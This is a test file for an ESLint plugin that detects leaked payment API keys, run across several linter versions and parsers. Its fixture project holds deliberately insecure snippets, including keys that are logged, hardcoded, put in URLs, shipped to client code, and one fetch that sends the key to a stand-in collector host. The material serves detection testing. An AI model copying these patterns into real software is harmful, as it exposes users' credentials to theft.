import { execFile } from 'node:child_process'
import { readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join, relative } from 'node:path'
import { pathToFileURL } from 'node:url'
import { promisify } from 'node:util'
import { mintBody, renderTemplate } from '@nuvion-guard/test-fixtures'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { cleanEnvironment, installPlugin, packageFolder, writeFiles } from './installed-plugin.ts'

const run = promisify(execFile)

const project = {
  'package.json': '{"name":"shop","type":"module","dependencies":{"next":"*","react":"*"}}',
  'src/nuvion.js': `export const key = '<<live-key:a>>'\nconst start = 'nv_test_'\nexport const other = start + '${mintBody(1)}'\n`,
  'src/log.js': 'const headers = { Authorization: `Bearer ${process.env.NUVION_API_KEY}` }\nconsole.log(headers)\nconsole.log(process.env.NUVION_API_KEY.slice(-4))\n',
  'src/url.js': 'export const get = () => fetch(`https://api.nuvion.co/accounts?key=${process.env.NUVION_API_KEY}`)\n',
  'src/error.js': 'const key = process.env.NUVION_API_KEY\nif (!key) throw new Error("missing")\nif (key.length < 9) throw new Error(`bad key ${key}`)\n',
  'src/host.js': "export const get = () => fetch('https://collector.example.com', { headers: { Authorization: `Bearer ${process.env.NUVION_API_KEY}` } })\n",
  'src/public.js': 'export const key = process.env.NEXT_PUBLIC_NUVION_API_KEY\n',
  'src/mismatch.js': "export const nuvion = create({ baseURL: 'https://api.nuvion.dev', apiKey: process.env.NUVION_LIVE_API_KEY })\n",
  'src/pay.test.js': "it('pays', () => fetch('https://api.nuvion.co/accounts'))\n",
  'src/storage.js': 'export const keep = () => localStorage.setItem("nuvion", process.env.NUVION_API_KEY)\n',
  'src/auth.js': "export const get = () => fetch('https://api.nuvion.co/accounts', { headers: { Authorization: process.env.NUVION_API_KEY } })\n",
  'lib/index.js': "export * from './nuvion.js'\n",
  'lib/nuvion.js': 'export const nuvionKey = process.env.NUVION_API_KEY\n',
  'app/buy.jsx': "'use client'\nimport { nuvionKey } from '../lib/index.js'\nexport const Buy = () => <button onClick={() => send(nuvionKey, process.env.NUVION_API_KEY)}>x</button>\n",
  'lib/checkout.js': 'export const checkout = () => fetch("/x", { headers: { Authorization: `Bearer ${process.env.NUVION_API_KEY}` } })\n',
  'app/order.jsx': "'use client'\nimport { checkout } from '../lib/checkout.js'\nexport const Order = () => <button onClick={() => checkout()}>x</button>\n",
  'pages/props.jsx': 'export async function getServerSideProps() {\n  return { props: { key: process.env.NUVION_API_KEY } }\n}\nexport default () => null\n',
  'next.config.mjs': 'export default { env: { NUVION_API_KEY: process.env.NUVION_API_KEY } }\n',
  'src/clean.js': "export const get = () => fetch('https://api.nuvion.co/accounts', { headers: { Authorization: `Bearer ${process.env.NUVION_API_KEY}` } })\n",
}
const settings = ['app', 'lib', 'pages', 'src', 'next.config.mjs']

interface Found {
  readonly path: string
  readonly line: number
  readonly rule: string
}
interface LintedFile {
  readonly filePath: string
  readonly messages: readonly { readonly ruleId: string | null; readonly line: number; readonly column: number; readonly message: string; readonly suggestions?: readonly { readonly desc: string; readonly fix: { readonly text: string } }[] }[]
}

let root: string
beforeAll(async () => {
  root = await installPlugin({ withOptional: true })
  writeFiles(root, project)
}, 120_000)
afterAll(() => rmSync(root, { recursive: true, force: true }))

async function lint(folder: string, args: readonly string[], env: Readonly<Record<string, string>> = {}): Promise<{ readonly files: readonly LintedFile[] }> {
  const file = join(packageFolder(folder), 'bin/eslint.js')
  const { stdout, stderr } = await run(process.execPath, [file, '--format', 'json', ...args, ...settings], { cwd: root, env: cleanEnvironment(env), maxBuffer: 1 << 26 }).catch((failed: unknown) => failed as { stdout: string; stderr: string })
  if (!stdout.startsWith('[')) throw new Error(`${folder}: ${stdout}${stderr}`)
  return { files: JSON.parse(stdout) as LintedFile[] }
}

function summary(files: readonly LintedFile[]): Found[] {
  return files.flatMap(file => file.messages.map(message => ({ path: relative(root, file.filePath), line: message.line, rule: message.ruleId ?? 'none' }))).sort(byPlace)
}

function byPlace(a: Found, b: Found): number {
  return a.path.localeCompare(b.path) || a.line - b.line || a.rule.localeCompare(b.rule)
}

function details(files: readonly LintedFile[]): unknown[] {
  return files
    .flatMap(file => file.messages.map(({ ruleId, line, column, message, suggestions }) => ({ path: relative(root, file.filePath), ruleId, line, column, message, suggestions: (suggestions ?? []).map(one => [one.desc, one.fix.text]) })))
    .sort((a, b) => byPlace({ ...a, rule: a.ruleId ?? '' }, { ...b, rule: b.ruleId ?? '' }) || a.column - b.column)
}

function flatConfig(name: string, parser: 'espree' | 'typescript'): string {
  const file = `eslint.${name}.config.mjs`
  const parserUrl = pathToFileURL(join(packageFolder('@typescript-eslint/parser'), 'dist/index.js')).href
  const options = parser === 'espree' ? '{ parserOptions: { ecmaFeatures: { jsx: true } } }' : '{ parser, parserOptions: { ecmaFeatures: { jsx: true } } }'
  const lines = ["import nuvion from 'eslint-plugin-nuvion'", parser === 'espree' ? '' : `import parser from '${parserUrl}'`, `export default [{ files: ['**/*.{js,jsx,mjs}'], languageOptions: ${options} }, ...nuvion.configs.recommended]`]
  writeFileSync(join(root, file), `${lines.join('\n')}\n`)
  return file
}

const versions = [
  ['eslint-8', '8.57.1'],
  ['eslint-9-first', '9.0.0'],
  ['eslint-9', '9.39.5'],
  ['eslint-10-first', '10.0.0'],
  ['eslint', '10.15.0'],
] as const

describe('the built plugin finds the same in every host', () => {
  let expected: unknown[]
  let found: Found[]
  beforeAll(async () => {
    const { files } = await lint('eslint', ['-c', flatConfig('base', 'espree')])
    expected = details(files)
    found = summary(files)
  })

  it('finds something of every recommended rule, and nothing in clean files', () => {
    expect([...new Set(found.map(one => one.rule))].sort()).toEqual([
      'nuvion/no-client-side-key', 'nuvion/no-env-inlining', 'nuvion/no-environment-mismatch', 'nuvion/no-hardcoded-key', 'nuvion/no-key-in-error', 'nuvion/no-key-in-serialized-data', 'nuvion/no-key-in-storage', 'nuvion/no-key-in-url',
      'nuvion/no-key-logging', 'nuvion/no-key-to-untrusted-host', 'nuvion/no-live-key-in-tests', 'nuvion/no-public-env-key', 'nuvion/require-bearer-auth',
    ])
    expect(found.filter(one => one.path === 'src/clean.js' || one.path.startsWith('lib/'))).toEqual([])
    expect(found.filter(one => one.path === 'app/buy.jsx').map(one => one.line)).toEqual([2, 3])
    expect(found.filter(one => one.path === 'app/order.jsx').map(one => one.line)).toEqual([2])
    // ESLint's own JSON output repeats the source; what the rules say does not hold the key.
    expect(JSON.stringify(expected)).not.toContain(renderTemplate('<<live-key:a>>').text.slice(-12))
  })

  it.each(versions.flatMap(([folder, version]) => (['espree', 'typescript'] as const).map(parser => ({ folder, version, parser }))))('ESLint $version, flat, $parser', async ({ folder, version, parser }) => {
    expect((JSON.parse(readFileSync(join(packageFolder(folder), 'package.json'), 'utf8')) as { version: string }).version).toBe(version)
    const { files } = await lint(folder, ['-c', flatConfig(`${folder}-${parser}`, parser)], { ESLINT_USE_FLAT_CONFIG: 'true' })
    expect(details(files)).toEqual(expected)
  })

  it.each(['espree', 'typescript'])('ESLint 8.57.1, eslintrc, %s', async parser => {
    const config = { root: true, extends: ['plugin:nuvion/legacy-recommended'], parserOptions: { ecmaVersion: 2022, sourceType: 'module', ecmaFeatures: { jsx: true } }, ...(parser === 'espree' ? {} : { parser: join(packageFolder('@typescript-eslint/parser'), 'dist/index.js') }) }
    writeFileSync(join(root, `.${parser}.eslintrc.json`), JSON.stringify(config))
    const { files } = await lint('eslint-8', ['--no-eslintrc', '-c', `.${parser}.eslintrc.json`, '--ext', '.js,.jsx,.mjs'], { ESLINT_USE_FLAT_CONFIG: 'false' })
    expect(details(files)).toEqual(expected)
  })

  it('a flat config in CommonJS', async () => {
    writeFileSync(join(root, 'eslint.common.config.cjs'), "const nuvion = require('eslint-plugin-nuvion')\nmodule.exports = [{ files: ['**/*.{js,jsx,mjs}'], languageOptions: { parserOptions: { ecmaFeatures: { jsx: true } } } }, ...nuvion.configs.recommended]\n")
    const { files } = await lint('eslint', ['-c', 'eslint.common.config.cjs'])
    expect(details(files)).toEqual(expected)
  })

  it('extends by name through defineConfig', async () => {
    writeFileSync(join(root, 'eslint.named.config.mjs'), `import { defineConfig } from '${pathToFileURL(join(packageFolder('eslint'), 'lib/config-api.js')).href}'\nimport nuvion from 'eslint-plugin-nuvion'\nexport default defineConfig([{ files: ['**/*.{js,jsx,mjs}'], languageOptions: { parserOptions: { ecmaFeatures: { jsx: true } } }, plugins: { nuvion }, extends: ['nuvion/recommended'] }])\n`)
    const { files } = await lint('eslint', ['-c', 'eslint.named.config.mjs'])
    expect(details(files)).toEqual(expected)
  })

  it('oxlint 1.94.0', async () => {
    const plugin = (await import(pathToFileURL(join(root, 'node_modules/eslint-plugin-nuvion/dist/index.js')).href)) as { default: { configs: { recommended: readonly { rules?: Record<string, string> }[] } } }
    const rules = Object.assign({}, ...plugin.default.configs.recommended.map(block => block.rules ?? {})) as Record<string, string>
    writeFileSync(join(root, 'oxlint.json'), JSON.stringify({ jsPlugins: ['eslint-plugin-nuvion'], categories: { correctness: 'off' }, rules }))
    const { stdout, stderr } = await run(process.execPath, [join(packageFolder('oxlint'), 'bin/oxlint'), '-c', 'oxlint.json', '--format', 'json', ...settings], { cwd: root, env: cleanEnvironment(), maxBuffer: 1 << 26 }).catch((failed: unknown) => failed as { stdout: string; stderr: string })
    if (!stdout.trimStart().startsWith('{')) throw new Error(stdout + stderr)
    const { diagnostics } = JSON.parse(stdout) as { diagnostics: readonly { code: string; filename: string; labels: readonly { span: { line: number } }[] }[] }
    const seen = diagnostics.map(one => ({ path: one.filename.replaceAll('\\', '/'), line: one.labels[0]?.span.line ?? 0, rule: one.code.replace(/^([^()]+)\(([^()]+)\)$/, '$1/$2') }))
    expect(seen.sort(byPlace)).toEqual(found)
  })
})
